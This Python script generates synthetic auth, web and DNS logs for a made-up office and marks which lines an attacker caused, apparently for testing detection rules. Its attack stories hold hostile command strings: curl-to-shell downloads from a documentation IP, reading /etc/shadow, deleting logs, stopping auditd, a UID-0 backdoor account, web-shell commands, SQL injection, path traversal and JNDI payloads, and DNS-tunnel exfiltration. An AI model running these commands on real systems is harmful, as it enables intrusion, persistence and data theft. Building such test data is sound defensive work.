#!/usr/bin/env python3
"""site.py SEED DAYS DIR [--without FAMILY]: the logs of an office that does not exist.

Writes DIR/HOST/auth.log, access.log and dnsmasq.log, and DIR.bad, the lines that the
attacker caused.  The same seed gives the same bytes.  What people, machines and the
internet's background do is in it, too, and much of that trips rules.
FAMILY is guess, web, exfil, persist or lateral.
"""
import datetime
import os
import random
import sys

seed, days, folder = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
without = sys.argv[5] if sys.argv[4:5] == ["--without"] else ""
rnd = random.Random(seed)
START = datetime.datetime(2026, 9, 7, tzinfo=datetime.timezone.utc)
DAY = 86400
HOSTS = ["web%02d" % i for i in range(1, rnd.randint(2, 4))] + \
    ["app%02d" % i for i in range(1, rnd.randint(3, 6))] + ["db01", "gw01"]
USERS = ["%s%d" % (rnd.choice(["ana", "ben", "cem", "dora", "eva", "finn", "gita"]), i)
         for i in range(rnd.randint(6, 14))]
ADMINS = USERS[:2]
AT = {h: "10.%d.1.%d" % (seed % 200, i + 10) for i, h in enumerate(HOSTS)}
DESK = {u: "10.%d.7.%d" % (seed % 200, i + 20) for i, u in enumerate(USERS)}
MONITOR, SCANNER = "10.%d.1.5" % (seed % 200), "10.%d.1.6" % (seed % 200)
PAGES = ["/", "/news", "/shop?item=%d", "/img/%d.png", "/login", "/cart", "/api/v1/items/%d"]
lines, bad = [], set()


def stamp(t):
    return (START + datetime.timedelta(seconds=t)).strftime("%Y-%m-%dT%H:%M:%S+00:00")


def put(t, host, log, text, evil):
    """One line; what the attacker causes can still be seen to be his by its bytes."""
    lines.append((t, len(lines), host, log, text))
    if evil:
        bad.add(text)


def auth(t, host, who, text, evil=False):
    put(t, host, "auth.log", "%s %s %s[%d]: %s" % (stamp(t), host, who, rnd.randint(300, 60000), text), evil)


def web(t, host, ip, path, status, agent="Mozilla/5.0", method="GET", evil=False):
    when = (START + datetime.timedelta(seconds=t)).strftime("%d/%b/%Y:%H:%M:%S +0000")
    put(t, host, "access.log", '%s - - [%s] "%s %s HTTP/1.1" %d %d "-" "%s"'
        % (ip, when, method, path, status, rnd.randint(200, 9000), agent), evil)


def dns(t, client, name, evil=False):
    put(t, "gw01", "dnsmasq.log", "%s gw01 dnsmasq[700]: query[TXT] %s from %s" % (stamp(t), name, client), evil)


def logon(t, host, user, ip, how="publickey", evil=False):
    port = rnd.randint(20000, 60000)
    auth(t, host, "sshd", "Accepted %s for %s from %s port %d ssh2" % (how, user, ip, port), evil)


def refused(t, host, user, ip, evil=False):
    unknown = "" if user in USERS or user == "root" else "invalid user "
    auth(t, host, "sshd", "Failed password for %s%s from %s port %d ssh2"
         % (unknown, user, ip, rnd.randint(20000, 60000)), evil)


def sudo(t, host, user, command, evil=False):
    auth(t, host, "sudo", "%8s : TTY=pts/%d ; PWD=/home/%s ; USER=root ; COMMAND=%s"
         % (user, rnd.randint(0, 5), user, command), evil)


def outside():
    return "%s.%d" % (rnd.choice(["192.0.2", "198.51.100", "203.0.113"]), rnd.randint(1, 254))


def label(n):
    return "".join(rnd.choice("abcdefghijklmnopqrstuvwxyz234567") for _ in range(n))


def office(day):
    """A time of day at which people work; seldom another one."""
    if rnd.random() < 0.06:
        return day * DAY + rnd.randint(0, DAY - 4000)
    return day * DAY + 7 * 3600 + int(rnd.triangular(0, 11, 4) * 3600)


# --- what happens anyway ---

def people(day):
    weekend = (day % 7) >= 5
    for user in USERS:
        for _ in range(rnd.randint(0, 1) if weekend else rnd.randint(1, 4)):
            t, host = office(day), rnd.choice(HOSTS)
            how = "password" if rnd.random() < 0.3 else "publickey"
            for i in range(rnd.choice([0, 0, 0, 0, 1, 1, 2, 3, 6])):
                refused(t - 40 + 6 * i, host, user, DESK[user])
            logon(t, host, user, DESK[user], how)
    for user in ADMINS:
        for _ in range(0 if weekend else rnd.randint(1, 5)):
            t, host = office(day), rnd.choice(HOSTS)
            sudo(t, host, user, rnd.choice([
                "/usr/bin/apt-get upgrade", "/bin/systemctl restart nginx", "/bin/bash",
                "/usr/bin/vi /etc/nginx/nginx.conf", "/usr/bin/tail /var/log/syslog",
                "/usr/bin/vi /etc/systemd/system/shop.service", "/usr/bin/crontab -e",
                "/usr/bin/less /var/log/auth.log"]))
    if rnd.random() < 0.3 and not weekend:
        t, host, name = office(day), rnd.choice(HOSTS), "new%d" % day
        admin = rnd.choice(ADMINS)
        sudo(t, host, admin, "/usr/sbin/useradd -m %s" % name)
        auth(t + 1, host, "useradd", "new user: name=%s, UID=%d, GID=%d, home=/home/%s, shell=/bin/bash, from=/dev/pts/0"
             % (name, 1100 + day, 1100 + day, name))
        if rnd.random() < 0.3:
            sudo(t + 60, host, admin, "/usr/sbin/usermod -aG sudo %s" % name)
            auth(t + 61, host, "usermod", "add '%s' to group 'sudo'" % name)
    if rnd.random() < 0.15:
        t, host = office(day), rnd.choice(HOSTS)
        auth(t, host, "crontab", "(%s) REPLACE (%s)" % (ADMINS[0], ADMINS[0]))
    if rnd.random() < 0.1:
        auth(office(day), rnd.choice(HOSTS), "su", "FAILED SU (to root) %s on pts/1" % rnd.choice(USERS))


def machines(day):
    for hour in range(24):
        for i, host in enumerate(HOSTS):
            logon(day * DAY + hour * 3600 + 5 * i, host, "backup", MONITOR)
    if day % 7 == 6:
        t = day * DAY + 2 * 3600
        for host in [h for h in HOSTS if h.startswith("web")]:
            for i in range(rnd.randint(60, 240)):
                path = rnd.choice(["/.env", "/.git/config", "/wp-login.php", "/../../etc/passwd",
                                   "/?id=1%27%20OR%201=1--", "/phpmyadmin/", "/x%d" % i])
                web(t + i // 4, host, SCANNER, path, 404, "Nessus")
    for _ in range(rnd.randint(0, 3)):
        dns(rnd.randint(0, DAY - 1) + day * DAY, rnd.choice(list(AT.values())),
            "%s.cdn.example.net" % label(rnd.randint(40, 60)))
    if rnd.random() < 0.2:
        t, client = office(day), rnd.choice(list(DESK.values()))
        for i in range(rnd.randint(5, 70)):
            dns(t + i, client, "%s.%s.av.example.net" % (label(50), label(20)))


def internet(day):
    """Guessing and probing that leads nowhere: not worth a person's time."""
    front = [h for h in HOSTS if h.startswith("web")]
    for host in front:
        for _ in range(rnd.randint(20, 60)):
            page = rnd.choice(PAGES)
            web(day * DAY + rnd.randint(0, DAY - 1), host, outside(), page.replace("%d", str(rnd.randint(1, 99))), 200)
        for _ in range(rnd.randint(1, 6)):
            t, ip = day * DAY + rnd.randint(0, DAY - 2000), outside()
            for i in range(int(rnd.paretovariate(0.9)) % 120 + 2):
                refused(t + 3 * i, host, rnd.choice(["root", "admin", "test", "oracle", "ubuntu"]), ip)
        for _ in range(rnd.randint(1, 5)):
            t, ip = day * DAY + rnd.randint(0, DAY - 2000), outside()
            agent = rnd.choice(["Mozilla/5.0", "Mozilla/5.0 zgrab/0.x", "Nikto/2.1.6", "python-requests/2.31"])
            for i in range(rnd.choice([1, 2, 5, 20, 80])):
                web(t + i, host, ip, rnd.choice([
                    "/.env", "/.git/HEAD", "/wp-login.php", "/boaform/admin/formLogin",
                    "/..%2f..%2f..%2fetc/passwd", "/?q=<script>alert(1)</script>", "/admin%d" % i,
                    "/cgi-bin/luci", "/?x=${jndi:ldap://%s/a}" % ip]), rnd.choice([404, 404, 404, 403, 400]), agent)


# --- what one attacker does ---

def act_root(t, host, user):
    """With rights on a host: look, stay, hide."""
    for command in rnd.sample([
            "/bin/bash", "/usr/bin/cat /etc/shadow", "/usr/bin/vi /etc/cron.d/sync",
            "/usr/bin/rm /var/log/auth.log", "/bin/systemctl stop auditd",
            "/usr/bin/tee -a /root/.ssh/authorized_keys", "/usr/bin/find / -exec /bin/sh ;",
            "/bin/sh -c curl http://203.0.113.9/x.sh | sh"], rnd.randint(2, 5)):
        t += rnd.randint(10, 200)
        sudo(t, host, user, command, True)
    return t


def guess(t):
    host, ip, user = rnd.choice(HOSTS), outside(), rnd.choice(USERS)
    for i in range(rnd.randint(12, 150)):
        refused(t + rnd.randint(1, 4) * i, host, user if rnd.random() < 0.5 else "root", ip, True)
    t += 700
    logon(t, host, user, ip, "password", True)
    return act_root(t, host, user)


def exploit(t):
    host, ip = rnd.choice([h for h in HOSTS if h.startswith("web")]), outside()
    for i in range(rnd.randint(20, 200)):
        web(t + i // 3, host, ip, "/%s.php" % label(6), 404, "gobuster/3.6", evil=True)
    t += 120
    web(t, host, ip, "/download?f=../../../../etc/passwd", 200, evil=True)
    web(t + 30, host, ip, "/?id=1%27%20UNION%20SELECT%20user,pass%20FROM%20users--", 200, evil=True)
    web(t + 90, host, ip, "/uploads/%s.php" % label(5), 200, "curl/7.88", "POST", True)
    for i in range(rnd.randint(3, 12)):
        web(t + 100 + 15 * i, host, ip, "/uploads/s.php?cmd=%s" % rnd.choice(
            ["id", "uname%20-a", "cat%20/etc/passwd", "whoami", "wget%20http://203.0.113.9/k"]), 200, "curl/7.88", evil=True)
    return t + 400


def exfil(t):
    client, zone = rnd.choice(list(AT.values())), "%s.example.org" % label(4)
    for i in range(rnd.randint(150, 900)):
        t += rnd.randint(1, 8)
        dns(t, client, "%s.%s.%s" % (label(rnd.randint(48, 60)), label(30), zone), True)
    return t


def persist(t):
    host, name = rnd.choice(HOSTS), rnd.choice(["svc", "systemd-x", "sysadm", "ftpd"])
    user = rnd.choice(USERS)
    sudo(t, host, user, "/usr/sbin/useradd -o -u 0 %s" % name, True)
    auth(t + 1, host, "useradd", "new user: name=%s, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/2" % name, True)
    auth(t + 40, host, "passwd", "pam_unix(passwd:chauthtok): password changed for %s" % name, True)
    sudo(t + 80, host, user, "/usr/sbin/usermod -aG sudo %s" % name, True)
    auth(t + 81, host, "usermod", "add '%s' to group 'sudo'" % name, True)
    auth(t + 200, host, "crontab", "(www-data) REPLACE (www-data)", True)
    auth(t + 320, host, "CRON", "(www-data) CMD (curl -s http://203.0.113.9/u | bash)", True)
    return t + 400


def lateral(t):
    user, here = rnd.choice(USERS), rnd.choice(list(AT.values()))
    for host in rnd.sample(HOSTS, len(HOSTS) - 1):
        t += rnd.randint(20, 90)
        for i in range(rnd.randint(0, 8)):
            refused(t - 12 + i, host, user, here, True)
        logon(t, host, user, here, "password", True)
        here = AT[host]
    return act_root(t, host, user)


STORIES = {"guess": guess, "web": exploit, "exfil": exfil, "persist": persist, "lateral": lateral}
for day in range(days):
    people(day)
    machines(day)
    internet(day)
for day in range(2, days, 2):
    name = rnd.choice(sorted(STORIES))
    first, state = day * DAY + rnd.randint(0, DAY - 9000), rnd.getstate()
    rnd.seed(seed * 1000 + day)
    if name != without:
        STORIES[name](first)
    rnd.setstate(state)
lines.sort(key=lambda l: l[:2])
files = {}
for t, _, host, log, text in lines:
    path = os.path.join(folder, host, log)
    if path not in files:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        files[path] = open(path, "w")
    files[path].write(text + "\n")
with open(folder + ".bad", "w") as f:
    f.writelines(sorted(text + "\n" for text in bad))
